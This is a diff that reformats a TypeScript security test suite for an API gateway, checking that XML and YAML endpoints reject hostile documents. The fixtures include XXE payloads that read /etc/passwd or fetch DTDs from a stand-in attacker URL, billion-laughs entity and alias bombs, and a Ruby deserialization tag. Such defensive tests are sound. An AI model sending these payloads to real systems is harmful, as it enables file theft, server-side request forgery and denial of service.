@@ -95,7 +95,11 @@ beforeAll(async () => {
     DEPARTMENT_ALLOWED_HOSTS: '127.0.0.1',
     DEPARTMENT_ALLOW_PRIVATE_NETWORKS: 'true',
   });
-  [adminToken, windowToken, integratorToken] = await Promise.all([gateway.token('admin'), gateway.token('window'), gateway.token('integrator')]);
+  [adminToken, windowToken, integratorToken] = await Promise.all([
+    gateway.token('admin'),
+    gateway.token('window'),
+    gateway.token('integrator'),
+  ]);
 }, 60_000);
 
 afterAll(async () => {
@@ -113,7 +117,10 @@ interface HealthOutcome {
 async function healthWith(answer: Answer): Promise<{ outcome: HealthOutcome; ms: number; text: string }> {
   nextAnswer = answer;
   const started = performance.now();
-  const response = await gateway.send('/v1/departments/AMR/health-check', { method: 'POST', headers: bearerHeaders(adminToken) });
+  const response = await gateway.send('/v1/departments/AMR/health-check', {
+    method: 'POST',
+    headers: bearerHeaders(adminToken),
+  });
   const ms = performance.now() - started;
   expect(response.status, response.text.slice(0, 300)).toBe(200);
   return { outcome: response.json<HealthOutcome>(), ms, text: response.text };
@@ -121,7 +128,8 @@ async function healthWith(answer: Answer): Promise<{ outcome: HealthOutcome; ms:
 
 const laughs = (levels: number): string => {
   const lines = ['<!ENTITY lol0 "lol">'];
-  for (let level = 1; level <= levels; level += 1) lines.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
+  for (let level = 1; level <= levels; level += 1)
+    lines.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
   return `<!DOCTYPE lolz [${lines.join('')}]>`;
 };
 
@@ -133,34 +141,69 @@ describe('XML from the AMR enterprise registry (SOAP 1.1 in GBK)', () => {
 
   const hostileDocuments: [string, () => Answer][] = [
     ['billion laughs (10 levels, 10^10 expansions)', () => gbk(ping('&lol10;', laughs(10)))],
-    ['external entity SYSTEM file:///etc/passwd', () => gbk(ping('&xxe;', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'))],
-    ['external entity SYSTEM over http', () => gbk(ping('&xxe;', `<!DOCTYPE r [<!ENTITY xxe SYSTEM "${attackerUrl}/xxe">]>`))],
-    ['parameter entity loading an external DTD', () => gbk(ping('OK', `<!DOCTYPE r [<!ENTITY % remote SYSTEM "${attackerUrl}/evil.dtd"> %remote;]>`))],
-    ['external DTD by PUBLIC identifier', () => gbk(ping('OK', `<!DOCTYPE soap:Envelope PUBLIC "-//A//B" "${attackerUrl}/public.dtd">`))],
+    [
+      'external entity SYSTEM file:///etc/passwd',
+      () => gbk(ping('&xxe;', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
+    ],
+    [
+      'external entity SYSTEM over http',
+      () => gbk(ping('&xxe;', `<!DOCTYPE r [<!ENTITY xxe SYSTEM "${attackerUrl}/xxe">]>`)),
+    ],
+    [
+      'parameter entity loading an external DTD',
+      () => gbk(ping('OK', `<!DOCTYPE r [<!ENTITY % remote SYSTEM "${attackerUrl}/evil.dtd"> %remote;]>`)),
+    ],
+    [
+      'external DTD by PUBLIC identifier',
+      () => gbk(ping('OK', `<!DOCTYPE soap:Envelope PUBLIC "-//A//B" "${attackerUrl}/public.dtd">`)),
+    ],
     ['a lower-case doctype', () => gbk(ping('OK', `<!doctype r SYSTEM "${attackerUrl}/lower.dtd">`))],
     ['a harmless-looking internal subset in GBK text', () => gbk(ping('&状态;', '<!DOCTYPE r [<!ENTITY 状态 "OK">]>'))],
-    ['an entity declaration without a DOCTYPE', () => gbk(`<?xml version="1.0" encoding="GBK"?><!ENTITY xxe SYSTEM "file:///etc/passwd">${ping('OK').slice(38)}`)],
+    [
+      'an entity declaration without a DOCTYPE',
+      () => gbk(`<?xml version="1.0" encoding="GBK"?><!ENTITY xxe SYSTEM "file:///etc/passwd">${ping('OK').slice(38)}`),
+    ],
     ['an undeclared entity reference', () => gbk(ping('&xxe;'))],
     ['10 000 nested elements', () => gbk(ping(`${'<a>'.repeat(10_000)}OK${'</a>'.repeat(10_000)}`))],
     ['200 000 sibling elements', () => gbk(ping(`OK</amr:zt>${'<x/>'.repeat(200_000)}<amr:zt>OK`))],
     ['not well-formed', () => gbk(ping('<unclosed>'))],
-    ['UTF-16 (a charset the registry never speaks)', () => ({ contentType: 'text/xml; charset=UTF-16', body: Buffer.from(ping('OK').replace('GBK', 'UTF-16'), 'utf16le') })],
-    ['invalid UTF-8 bytes', () => ({ contentType: 'text/xml; charset=UTF-8', body: Buffer.concat([Buffer.from(ping('OK').replace('GBK', 'UTF-8').slice(0, 200)), Buffer.from([0xff, 0xfe, 0xfd])]) })],
+    [
+      'UTF-16 (a charset the registry never speaks)',
+      () => ({
+        contentType: 'text/xml; charset=UTF-16',
+        body: Buffer.from(ping('OK').replace('GBK', 'UTF-16'), 'utf16le'),
+      }),
+    ],
+    [
+      'invalid UTF-8 bytes',
+      () => ({
+        contentType: 'text/xml; charset=UTF-8',
+        body: Buffer.concat([
+          Buffer.from(ping('OK').replace('GBK', 'UTF-8').slice(0, 200)),
+          Buffer.from([0xff, 0xfe, 0xfd]),
+        ]),
+      }),
+    ],
   ];
 
-  it.each(hostileDocuments)('%s: refused as department_malformed_response, quickly, nothing fetched or read', async (_name, document) => {
-    const before = amrRequests;
-    const { outcome, ms, text } = await healthWith(document());
-    expect(amrRequests - before).toBe(1);
-    expect(outcome.ok).toBe(false);
-    expect(outcome.error?.code).toBe('department_malformed_response');
-    expect(ms).toBeLessThan(QUICK_ANSWER_MS);
-    expect(text).not.toMatch(/root:x:0:0|stolen/);
-    expect(attackerHits).toEqual([]);
-  });
+  it.each(hostileDocuments)(
+    '%s: refused as department_malformed_response, quickly, nothing fetched or read',
+    async (_name, document) => {
+      const before = amrRequests;
+      const { outcome, ms, text } = await healthWith(document());
+      expect(amrRequests - before).toBe(1);
+      expect(outcome.ok).toBe(false);
+      expect(outcome.error?.code).toBe('department_malformed_response');
+      expect(ms).toBeLessThan(QUICK_ANSWER_MS);
+      expect(text).not.toMatch(/root:x:0:0|stolen/);
+      expect(attackerHits).toEqual([]);
+    },
+  );
 
   it('XInclude is not processed: its target is never fetched and the answer is judged on the elements as sent', async () => {
-    const { outcome } = await healthWith(gbk(ping(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${attackerUrl}/include" parse="text"/>`)));
+    const { outcome } = await healthWith(
+      gbk(ping(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${attackerUrl}/include" parse="text"/>`)),
+    );
     expect(outcome.ok).toBe(false);
     expect(attackerHits).toEqual([]);
   });
@@ -170,7 +213,10 @@ describe('XML from the AMR enterprise registry (SOAP 1.1 in GBK)', () => {
     if (!enterprise) throw new Error('no seeded enterprise');
     const resolved = await gateway.send('/v1/subjects/resolve', {
       method: 'POST',
-      headers: bearerHeaders(windowToken, { 'content-type': 'application/json', 'onewindow-purpose': 'case_acceptance' }),
+      headers: bearerHeaders(windowToken, {
+        'content-type': 'application/json',
+        'onewindow-purpose': 'case_acceptance',
+      }),
       body: JSON.stringify({ identifierType: 'credit_code', identifier: enterprise.tyshxydm, name: enterprise.qymc }),
     });
     expect(resolved.status, resolved.text.slice(0, 300)).toBe(201);
@@ -180,7 +226,10 @@ describe('XML from the AMR enterprise registry (SOAP 1.1 in GBK)', () => {
     const started = performance.now();
     const fetched = await gateway.send(`/v1/subjects/${resolved.json<{ id: string }>().id}/certificates`, {
       method: 'POST',
-      headers: bearerHeaders(windowToken, { 'content-type': 'application/json', 'onewindow-purpose': 'case_acceptance' }),
+      headers: bearerHeaders(windowToken, {
+        'content-type': 'application/json',
+        'onewindow-purpose': 'case_acceptance',
+      }),
       body: JSON.stringify({ types: ['business_licence'], refresh: true }),
     });
     expect(performance.now() - started).toBeLessThan(QUICK_ANSWER_MS);
@@ -197,7 +246,11 @@ describe('XML from the AMR enterprise registry (SOAP 1.1 in GBK)', () => {
       ['/v1/clients', adminToken],
       ['/v1/contracts', integratorToken],
     ] as const) {
-      const answer = await gateway.send(path, { method: 'POST', headers: bearerHeaders(token, { 'content-type': 'application/xml' }), body: xxe });
+      const answer = await gateway.send(path, {
+        method: 'POST',
+        headers: bearerHeaders(token, { 'content-type': 'application/xml' }),
+        body: xxe,
+      });
       expect(answer.status, `${path}: ${answer.text.slice(0, 200)}`).toBe(415);
       expect(answer.text).not.toContain('root:');
     }
@@ -218,15 +271,28 @@ describe('YAML in contract publishing', () => {
 
   function aliasBomb(levels: number): string {
     const lines = ['x-a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'];
-    for (let level = 1; level <= levels; level += 1) lines.push(`x-a${level}: &a${level} [${Array.from({ length: 10 }, () => `*a${level - 1}`).join(', ')}]`);
+    for (let level = 1; level <= levels; level += 1)
+      lines.push(`x-a${level}: &a${level} [${Array.from({ length: 10 }, () => `*a${level - 1}`).join(', ')}]`);
     return lines.join('\n');
   }
 
-  async function publish(text: string, contentType = 'application/yaml'): Promise<{ status: number; code: string; ms: number; text: string }> {
+  async function publish(
+    text: string,
+    contentType = 'application/yaml',
+  ): Promise<{ status: number; code: string; ms: number; text: string }> {
     const started = performance.now();
-    const answer = await gateway.send('/v1/contracts', { method: 'POST', headers: bearerHeaders(integratorToken, { 'content-type': contentType }), body: text });
+    const answer = await gateway.send('/v1/contracts', {
+      method: 'POST',
+      headers: bearerHeaders(integratorToken, { 'content-type': contentType }),
+      body: text,
+    });
     const ms = performance.now() - started;
-    return { status: answer.status, code: answer.status >= 400 ? answer.json<{ code: string }>().code : '', ms, text: answer.text };
+    return {
+      status: answer.status,
+      code: answer.status >= 400 ? answer.json<{ code: string }>().code : '',
+      ms,
+      text: answer.text,
+    };
   }
 
   const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).sort();
@@ -239,9 +305,19 @@ describe('YAML in contract publishing', () => {
   const hostileYaml: [string, () => string][] = [
     ['an alias bomb (billion laughs, 10 levels)', () => contract(aliasBomb(10))],
     ['an alias bomb inside a JSON publish request', () => JSON.stringify({ document: contract(aliasBomb(10)) })],
-    ['many aliases of one large anchor', () => contract(`x-big: &big "${'x'.repeat(100_000)}"\nx-copies: [${Array.from({ length: 2000 }, () => '*big').join(', ')}]`)],
+    [
+      'many aliases of one large anchor',
+      () =>
+        contract(
+          `x-big: &big "${'x'.repeat(100_000)}"\nx-copies: [${Array.from({ length: 2000 }, () => '*big').join(', ')}]`,
+        ),
+    ],
     ['100 000-deep flow nesting', () => contract(`x-deep: ${'['.repeat(100_000)}${']'.repeat(100_000)}`)],
-    ['1 500-deep block nesting by indentation', () => contract(`x-deep:\n${Array.from({ length: 1500 }, (_, depth) => `${' '.repeat(depth + 1)}k:`).join('\n')} 1`)],
+    [
+      '1 500-deep block nesting by indentation',
+      () =>
+        contract(`x-deep:\n${Array.from({ length: 1500 }, (_, depth) => `${' '.repeat(depth + 1)}k:`).join('\n')} 1`),
+    ],
     ['duplicate keys', () => contract('x-dup: 1\nx-dup: 2')],
   ];
 
@@ -261,25 +337,32 @@ describe('YAML in contract publishing', () => {
     ['an unknown local tag', '!ruby/object:Gem::Installer "i"', 'i'],
   ];
 
-  it.each(tagged.map((entry, index) => [...entry, index] as const))('%s is kept as inert data, never resolved', async (_name, value, plain, index) => {
-    const version = `${index + 2}.0.0`;
-    const published = await publish(contract(`x-code: ${value}`, version));
-    expect(published.status, published.text.slice(0, 300)).toBeLessThan(500);
-    if (published.status === 201) {
-      const read = await gateway.send(`/v1/contracts/tst.yaml/versions/${version}`, { headers: bearerHeaders(adminToken) });
-      const stored = read.json<{ document: Record<string, unknown> }>().document['x-code'];
-      expect(JSON.stringify(stored)).toContain(plain);
-      expect(typeof stored === 'string' || Array.isArray(stored)).toBe(true);
-    }
-    expect(published.ms).toBeLessThan(QUICK_ANSWER_MS);
-  });
+  it.each(tagged.map((entry, index) => [...entry, index] as const))(
+    '%s is kept as inert data, never resolved',
+    async (_name, value, plain, index) => {
+      const version = `${index + 2}.0.0`;
+      const published = await publish(contract(`x-code: ${value}`, version));
+      expect(published.status, published.text.slice(0, 300)).toBeLessThan(500);
+      if (published.status === 201) {
+        const read = await gateway.send(`/v1/contracts/tst.yaml/versions/${version}`, {
+          headers: bearerHeaders(adminToken),
+        });
+        const stored = read.json<{ document: Record<string, unknown> }>().document['x-code'];
+        expect(JSON.stringify(stored)).toContain(plain);
+        expect(typeof stored === 'string' || Array.isArray(stored)).toBe(true);
+      }
+      expect(published.ms).toBeLessThan(QUICK_ANSWER_MS);
+    },
+  );
 
   it('a YAML 1.1 merge key is not merged (kept as a plain `<<` key), so it cannot smuggle members in', async () => {
     const published = await publish(contract('x-base: &base {polluted: yes}\nx-merged: {<<: *base}', '9.0.0'));
     expect(published.status, published.text.slice(0, 300)).toBeLessThan(500);
     if (published.status === 201) {
       const read = await gateway.send('/v1/contracts/tst.yaml/versions/9.0.0', { headers: bearerHeaders(adminToken) });
-      expect(read.json<{ document: Record<string, Record<string, unknown>> }>().document['x-merged']).toEqual({ '<<': { polluted: 'yes' } });
+      expect(read.json<{ document: Record<string, Record<string, unknown>> }>().document['x-merged']).toEqual({
+        '<<': { polluted: 'yes' },
+      });
     }
     expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
   });
